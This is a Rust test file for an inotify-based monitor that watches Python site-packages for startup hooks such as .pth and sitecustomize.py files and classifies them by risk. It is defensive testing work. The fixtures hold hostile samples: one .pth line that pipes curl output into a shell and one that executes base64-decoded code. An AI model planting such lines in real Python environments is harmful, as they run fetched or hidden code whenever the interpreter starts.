use std::{ffi::OsStr, fs, os::unix::ffi::OsStrExt as _, path::PathBuf};

use super::*;
use crate::sensors::file_key;
use monitor_common::{hook_class, hook_flags};

/// A fresh `<tmp>/pthwatch-watch-<tag>-<pid>/lib/python3.11/site-packages`; returns
/// (scratch root, site dir).
fn scratch(tag: &str) -> (PathBuf, PathBuf) {
    let root = std::env::temp_dir().join(format!("pthwatch-watch-{tag}-{}", std::process::id()));
    let _ = fs::remove_dir_all(&root);
    let site = root.join("lib/python3.11/site-packages");
    fs::create_dir_all(&site).unwrap();
    (root, site)
}

/// One `struct inotify_event` as the kernel writes it: the name NUL-padded to 16 bytes.
fn event(wd: i32, mask: u32, name: &[u8]) -> Vec<u8> {
    let len = if name.is_empty() {
        0
    } else {
        (name.len() + 1).next_multiple_of(16)
    };
    let mut out = Vec::new();
    out.extend(wd.to_ne_bytes());
    out.extend(mask.to_ne_bytes());
    out.extend(0u32.to_ne_bytes());
    out.extend(u32::try_from(len).unwrap().to_ne_bytes());
    out.extend(name);
    out.resize(EVENT_HEADER + len, 0);
    out
}

fn written(p: PathBuf) -> SiteChange {
    SiteChange::Written(p)
}

fn removed(p: PathBuf) -> SiteChange {
    SiteChange::Removed(p)
}

#[test]
fn hook_names() {
    let yes: [&[u8]; 8] = [
        b"x.pth",
        b"litellm_init.pth",
        b"sitecustomize.py",
        b"usercustomize.py",
        b"foo.start",
        b"sitecustomize.pyc",
        // Skipped by CPython since gh-113659, run by interpreters built before it.
        b".pth",
        b"\xff\xfe.pth",
    ];
    for name in yes {
        assert!(is_hook_name(OsStr::from_bytes(name)), "{name:?}");
    }
    let no: [&[u8]; 9] = [
        b"x.pth.tmp",
        b"README",
        b"x.py",
        b"sitecustomize",
        b"sitecustomize_helper.py",
        b"__init__.py",
        b"site-packages",
        b"",
        b"a/b.pth",
    ];
    for name in no {
        assert!(!is_hook_name(OsStr::from_bytes(name)), "{name:?}");
    }
}

#[test]
fn events_are_parsed_with_padding_and_non_utf8_names() {
    let mut buf = event(3, libc::IN_CREATE, b"a.pth");
    buf.extend(event(3, libc::IN_DELETE, b"\xff\xfe.pth"));
    buf.extend(event(-1, libc::IN_Q_OVERFLOW, b""));
    // A 16-byte name fills its padding exactly: a NUL still follows it.
    buf.extend(event(4, libc::IN_MOVED_TO, b"0123456789ab.pth"));
    // A truncated tail (never written by the kernel) is dropped, not misread.
    buf.extend(&event(5, libc::IN_CREATE, b"b.pth")[..20]);
    let events = parse_events(&buf);
    assert_eq!(
        events,
        vec![
            RawEvent {
                wd: 3,
                mask: libc::IN_CREATE,
                name: b"a.pth"
            },
            RawEvent {
                wd: 3,
                mask: libc::IN_DELETE,
                name: b"\xff\xfe.pth"
            },
            RawEvent {
                wd: -1,
                mask: libc::IN_Q_OVERFLOW,
                name: b""
            },
            RawEvent {
                wd: 4,
                mask: libc::IN_MOVED_TO,
                name: b"0123456789ab.pth"
            },
        ]
    );
    assert_eq!(event(4, 0, b"0123456789ab.pth").len(), EVENT_HEADER + 32);
}

#[test]
fn a_queue_overflow_asks_for_a_rescan_and_keeps_lost_watches() {
    let (root, site) = scratch("overflow");
    let mut w = SiteWatcher::new().unwrap();
    w.watch(&site).unwrap();
    let wd = w.by_path[&site];
    let mut buf = event(wd, libc::IN_CLOSE_WRITE, b"a.pth");
    buf.extend(event(-1, libc::IN_Q_OVERFLOW, b""));
    buf.extend(event(wd, libc::IN_DELETE_SELF, b""));
    buf.extend(event(wd, libc::IN_IGNORED, b""));
    let mut pending = Pending::default();
    w.take(&buf, &mut pending);
    assert_eq!(
        pending.finish(),
        vec![SiteChange::DirGone(site.clone()), SiteChange::Overflow]
    );
    assert!(w.site_dirs().is_empty());
    fs::remove_dir_all(&root).unwrap();
}

#[test]
fn pip_style_writes_renames_and_deletes_are_reported() {
    let (root, site) = scratch("pip");
    let mut w = SiteWatcher::new().unwrap();
    w.watch(&site).unwrap();
    assert_eq!(w.drain(), vec![]);
    fs::write(site.join("a.pth"), "import os\n").unwrap();
    // pip: a temporary file renamed into place.
    fs::write(site.join("b.pth.part"), "/opt/b\n").unwrap();
    fs::rename(site.join("b.pth.part"), site.join("b.pth")).unwrap();
    fs::write(site.join("notes.txt"), "hello\n").unwrap();
    fs::remove_file(site.join("a.pth")).unwrap();
    fs::write(site.join("sitecustomize.py"), "import os\n").unwrap();
    fs::write(site.join(OsStr::from_bytes(b"\xff.pth")), "x\n").unwrap();
    assert_eq!(
        w.drain(),
        vec![
            written(site.join("b.pth")),
            removed(site.join("a.pth")),
            written(site.join("sitecustomize.py")),
            written(site.join(OsStr::from_bytes(b"\xff.pth"))),
        ]
    );
    assert_eq!(w.drain(), vec![]);
    // A hook renamed away (to a name that is not a hook) is removed.
    fs::rename(site.join("b.pth"), site.join("b.pth.bak")).unwrap();
    assert_eq!(w.drain(), vec![removed(site.join("b.pth"))]);
    fs::remove_dir_all(&root).unwrap();
}

#[test]
fn the_last_state_of_a_path_wins() {
    let a = PathBuf::from("/s/site-packages/a.pth");
    let b = PathBuf::from("/s/site-packages/b.pth");
    let other = PathBuf::from("/t/site-packages/c.pth");
    let mut p = Pending::default();
    p.push(written(a.clone()));
    p.push(written(b.clone()));
    p.push(removed(a.clone()));
    p.push(written(other.clone()));
    p.push(written(b.clone()));
    assert_eq!(
        p.changes,
        vec![
            removed(a.clone()),
            written(other.clone()),
            written(b.clone())
        ]
    );
    // A gone directory makes the changes inside it moot.
    p.push(SiteChange::DirGone(PathBuf::from("/s/site-packages")));
    assert_eq!(
        p.finish(),
        vec![
            written(other),
            SiteChange::DirGone(PathBuf::from("/s/site-packages"))
        ]
    );
}

#[test]
fn watching_twice_is_a_no_op_and_only_directories_are_watched() {
    let (root, site) = scratch("twice");
    let mut w = SiteWatcher::new().unwrap();
    w.watch(&site).unwrap();
    w.watch(&site).unwrap();
    assert_eq!(w.by_wd.len(), 1);
    // A second role on the same directory is the same watch.
    w.watch_for_site_dirs(&site).unwrap();
    assert_eq!(w.by_wd.len(), 1);
    assert!(w.by_wd.values().all(|x| x.site && x.parent));
    fs::write(site.join("f.pth"), "").unwrap();
    let err = w.watch(&site.join("f.pth")).unwrap_err();
    assert!(err.to_string().contains("not a directory"), "{err}");
    let err = w.watch(&root.join("missing")).unwrap_err();
    assert_eq!(err.kind(), io::ErrorKind::NotFound, "{err}");
    assert!(err.to_string().contains("missing"), "{err}");
    assert_eq!(w.site_dirs(), vec![site]);
    fs::remove_dir_all(&root).unwrap();
}

#[test]
fn the_watch_limit_error_says_which_sysctl_to_raise() {
    let e = add_watch_error(
        Path::new("/x/site-packages"),
        io::Error::from_raw_os_error(libc::ENOSPC),
    );
    // The kind the caller checks to stop adding watches.
    assert_eq!(e.kind(), io::ErrorKind::StorageFull);
    let msg = e.to_string();
    assert!(msg.contains("fs.inotify.max_user_watches"), "{msg}");
    assert!(msg.contains("/x/site-packages"), "{msg}");
}

#[test]
fn a_site_dir_created_below_a_watched_lib_dir_is_reported() {
    let (root, site) = scratch("newdir");
    let lib = site.parent().unwrap().to_owned();
    fs::remove_dir(&site).unwrap();
    let mut w = SiteWatcher::new().unwrap();
    w.watch_for_site_dirs(&lib).unwrap();
    fs::create_dir(lib.join("other")).unwrap();
    fs::write(lib.join("x.pth"), "import os\n").unwrap();
    fs::create_dir(&site).unwrap();
    assert_eq!(w.drain(), vec![SiteChange::NewSiteDir(site.clone())]);
    fs::remove_dir_all(&root).unwrap();
}

#[test]
fn a_deleted_or_renamed_site_dir_is_reported_once() {
    let (root, site) = scratch("gone");
    let mut w = SiteWatcher::new().unwrap();
    w.watch(&site).unwrap();
    fs::write(site.join("a.pth"), "").unwrap();
    fs::remove_dir_all(&site).unwrap();
    assert_eq!(w.drain(), vec![SiteChange::DirGone(site.clone())]);
    assert!(w.site_dirs().is_empty());
    fs::create_dir(&site).unwrap();
    w.watch(&site).unwrap();
    fs::rename(&site, root.join("moved")).unwrap();
    assert_eq!(w.drain(), vec![SiteChange::DirGone(site.clone())]);
    // The renamed directory is no longer watched.
    fs::write(root.join("moved/b.pth"), "").unwrap();
    assert_eq!(w.drain(), vec![]);
    fs::remove_dir_all(&root).unwrap();
}

#[test]
fn plan_reads_new_and_rewritten_hooks_and_clears_removed_ones() {
    let (root, site) = scratch("plan");
    let mut w = SiteWatcher::new().unwrap();
    w.watch(&site).unwrap();
    let mut book = HookBook::default();
    let evil = site.join("evil.pth");

    fs::write(&evil, "/opt/lib\n").unwrap();
    let key = file_key(&evil).unwrap();
    let changes = w.drain();
    assert_eq!(changes, vec![written(evil.clone())]);
    assert_eq!(
        plan(&mut w, changes, &mut book),
        vec![HookUpdate::Set {
            key,
            info: info(hook_class::INERT, 0)
        }]
    );

    // Rewritten in place: same inode, new class.
    fs::write(&evil, "import os; os.system('curl x | sh')\n").unwrap();
    assert_eq!(file_key(&evil).unwrap(), key);
    let changes = w.drain();
    assert_eq!(
        plan(&mut w, changes, &mut book),
        vec![HookUpdate::Set {
            key,
            info: info(hook_class::RISKY, 0)
        }]
    );
    let (_, hook) = book.iter().find(|(_, h)| h.path == evil).unwrap();
    assert_eq!(hook.class.name(), "risky");

    fs::remove_file(&evil).unwrap();
    let changes = w.drain();
    assert_eq!(
        plan(&mut w, changes, &mut book),
        vec![HookUpdate::Clear(key)]
    );
    assert_eq!(book.len(), 0);
    fs::remove_dir_all(&root).unwrap();
}

#[test]
fn plan_clears_the_file_a_rename_replaced() {
    let (root, site) = scratch("replace");
    let mut w = SiteWatcher::new().unwrap();
    w.watch(&site).unwrap();
    let mut book = HookBook::default();
    let hook = site.join("b.pth");
    fs::write(&hook, "/opt/b\n").unwrap();
    let old = file_key(&hook).unwrap();
    let changes = w.drain();
    plan(&mut w, changes, &mut book);

    let tmp = site.join("b.pth.part");
    fs::write(&tmp, "import base64; exec(base64.b64decode('aWQ='))\n").unwrap();
    let new = file_key(&tmp).unwrap();
    fs::rename(&tmp, &hook).unwrap();
    let changes = w.drain();
    assert_eq!(changes, vec![written(hook.clone())]);
    assert_eq!(
        plan(&mut w, changes, &mut book),
        vec![
            HookUpdate::Clear(old),
            HookUpdate::Set {
                key: new,
                // Decoded, then run: what it does is hidden, so it may defer work.
                info: info(hook_class::RISKY, hook_flags::DEFERS)
            }
        ]
    );
    assert_eq!(book.len(), 1);
    fs::remove_dir_all(&root).unwrap();
}

#[test]
fn a_rescan_finds_what_changed_before_the_watch() {
    let (root, site) = scratch("rescan");
    let mut book = HookBook::default();
    // Known to the book, deleted before the watch was set.
    let gone = site.join("gone.pth");
    fs::write(&gone, "/opt/gone\n").unwrap();
    let gone_key = file_key(&gone).unwrap();
    plan(
        &mut SiteWatcher::new().unwrap(),
        vec![written(gone.clone())],
        &mut book,
    );
    // Written before the watch was set, and a new site dir below a watched lib dir.
    let late = site.join("late.pth");
    fs::write(&late, "import os\n").unwrap();
    let lib64 = root.join("lib64/python3.11");
    fs::create_dir_all(lib64.join("site-packages")).unwrap();
    let extra = lib64.join("site-packages/usercustomize.py");
    fs::write(&extra, "import os\n").unwrap();
    // Deleted last, so no file above reuses its inode.
    fs::remove_file(&gone).unwrap();

    let mut w = SiteWatcher::new().unwrap();
    w.watch(&site).unwrap();
    w.watch_for_site_dirs(&lib64).unwrap();
    let mut updates = plan(&mut w, vec![SiteChange::Overflow], &mut book);
    updates.sort_by_key(|u| match u {
        HookUpdate::Set { key, .. } | HookUpdate::Clear(key) => key.ino,
    });
    let mut want = vec![
        HookUpdate::Clear(gone_key),
        HookUpdate::Set {
            key: file_key(&late).unwrap(),
            info: info(hook_class::UNKNOWN, 0),
        },
        HookUpdate::Set {
            key: file_key(&extra).unwrap(),
            info: info(hook_class::UNKNOWN, 0),
        },
    ];
    want.sort_by_key(|u| match u {
        HookUpdate::Set { key, .. } | HookUpdate::Clear(key) => key.ino,
    });
    assert_eq!(updates, want);
    assert_eq!(
        w.site_dirs(),
        vec![site.clone(), lib64.join("site-packages")]
    );
    assert_eq!(book.len(), 2);
    // Idempotent: nothing changed, the same classes again.
    let again = plan(&mut w, vec![SiteChange::Overflow], &mut book);
    assert_eq!(again.len(), 2);
    assert!(again.iter().all(|u| want.contains(u)));
    assert_eq!(book.len(), 2);
    fs::remove_dir_all(&root).unwrap();
}

fn info(class: u32, flags: u32) -> monitor_common::HookInfo {
    monitor_common::HookInfo { class, flags }
}
